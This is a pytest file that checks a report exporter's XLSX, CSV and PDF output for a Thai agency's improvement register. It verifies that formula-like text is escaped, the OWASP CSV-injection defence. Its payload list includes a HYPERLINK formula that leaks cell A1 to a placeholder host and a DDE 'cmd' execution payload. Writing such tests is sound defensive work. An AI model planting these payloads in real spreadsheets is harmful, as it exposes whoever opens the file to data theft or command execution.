"""Formula injection: text typed into the improvement register reaches every export as text, never as a formula
(OWASP CSV injection), while numbers stay numbers."""
from __future__ import annotations

import csv
import io
import subprocess
import zipfile

from openpyxl import load_workbook

from reports import render_csv, render_csv_zip, render_pdf, render_xlsx
from tests.reports.sample_report import sample_report

PAYLOADS = ('=HYPERLINK("http://x?leak="&A1,"คลิก")', "+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3",
            "\tแท็บนำหน้า", "\rขึ้นบรรทัดนำหน้า")


def _planted() -> dict:
    report = sample_report()
    entry = report["improvements"][0]
    entry.update(issue=PAYLOADS[0], linked_to=PAYLOADS[1], old_process=PAYLOADS[2], new_process=PAYLOADS[3],
                 evidence=PAYLOADS[4] + " " + PAYLOADS[5], old_steps=-2)
    report["improvements"][1]["issue"] = PAYLOADS[5]
    report["agency_name"] = "=1+1 เทศบาลทดสอบ"
    return report


def test_workbook_text_cells_are_strings_never_formulas():
    book = load_workbook(io.BytesIO(render_xlsx(_planted())))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value[:1] in "=+-@\t\r":
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    for payload in PAYLOADS[:4]:
        assert payload in texts, payload
    assert "=1+1 เทศบาลทดสอบ" in texts
    register = book["ทะเบียนการปรับปรุง"]
    first = [cell for cell in register[6]]
    assert first[5].value == -2 and first[5].data_type == "n"  # a negative count is still a number


def _neutral(value: str) -> bool:
    return not value[:1] in ("=", "+", "-", "@", "\t", "\r") or value.lstrip("-").replace(".", "").isdigit()


def test_csv_cells_that_start_like_formulas_are_quoted():
    archive = zipfile.ZipFile(io.BytesIO(render_csv_zip(_planted())))
    cells = []
    for name in archive.namelist():
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
            cells.extend(row)
    assert all(_neutral(cell) for cell in cells), [cell for cell in cells if not _neutral(cell)]
    for payload in PAYLOADS:
        assert "'" + payload in cells or any(cell.startswith("'" + payload) for cell in cells), payload
    assert "'=1+1 เทศบาลทดสอบ" in cells
    register = list(csv.reader(io.StringIO(render_csv(_planted(), table="improvements").decode("utf-8-sig"))))
    first = register[1]
    assert "'" + PAYLOADS[0] in first and "-2" in first  # the negative count is written as a number


def test_pdf_shows_the_text_as_typed(tmp_path):
    path = tmp_path / "report.pdf"
    path.write_bytes(render_pdf(_planted()))
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout
    squashed = "".join(text.split())
    for payload in ("@SUM(1,1)", "-2+3", "+cmd|'/C", "=HYPERLINK(\"http://x?leak=\"&A1"):
        assert payload in squashed, payload
